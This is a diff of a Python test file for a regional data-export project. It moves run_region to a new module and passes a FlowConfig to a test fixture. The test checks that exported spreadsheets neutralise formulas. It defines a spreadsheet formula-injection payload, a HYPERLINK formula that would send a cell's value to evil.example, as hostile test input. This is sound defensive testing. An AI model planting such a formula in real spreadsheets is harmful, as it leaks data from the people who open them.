@@ -23,12 +23,12 @@ from regionomie.domain.privacy import (
     name_is_personal,
     pseudonymous_id,
 )
-from regionomie.exports import run_region
 from regionomie.exports.excel_safety import (
     needs_neutralising,
     neutralise_frame,
     neutralise_text,
 )
+from regionomie.flow import FlowConfig, run_region
 
 KEY = b"export-safety-test-key-0123456789"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
@@ -217,7 +217,13 @@ def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
     root = tmp_path_factory.mktemp("safe-exports")
     with pytest.MonkeyPatch.context() as mp:
         mp.setenv("REGIONOMIE_PSEUDONYM_KEY", KEY.decode())
-        run_region("regio-amersfoort", hostile_tables(), demo_kb(), "2026-11-28", out_root=root)
+        run_region(
+            "regio-amersfoort",
+            hostile_tables(),
+            demo_kb(),
+            "2026-11-28",
+            FlowConfig(exports_root=root),
+        )
     return root / "regio-amersfoort" / "2026-11-28"
 
 
